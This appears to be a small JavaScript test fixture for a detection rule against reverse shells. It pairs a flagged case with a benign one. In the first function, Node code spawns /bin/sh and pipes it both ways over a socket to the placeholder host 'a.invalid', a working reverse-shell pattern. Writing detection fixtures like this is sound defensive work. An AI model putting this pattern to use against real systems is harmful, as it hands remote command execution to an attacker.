function a() {
  const sh = spawn("/bin/sh", []);
  const c = net.connect(1, "a.invalid", () => {
    // ruleid: shells-reverse-js
    c.pipe(sh.stdin);
    // ruleid: shells-reverse-js
    sh.stdout.pipe(c);
  });
}
function b() {
  const sh = spawn("/bin/sh", ["-c", "make"]);
  // ok: shells-reverse-js
  sh.stdout.pipe(process.stdout);
}
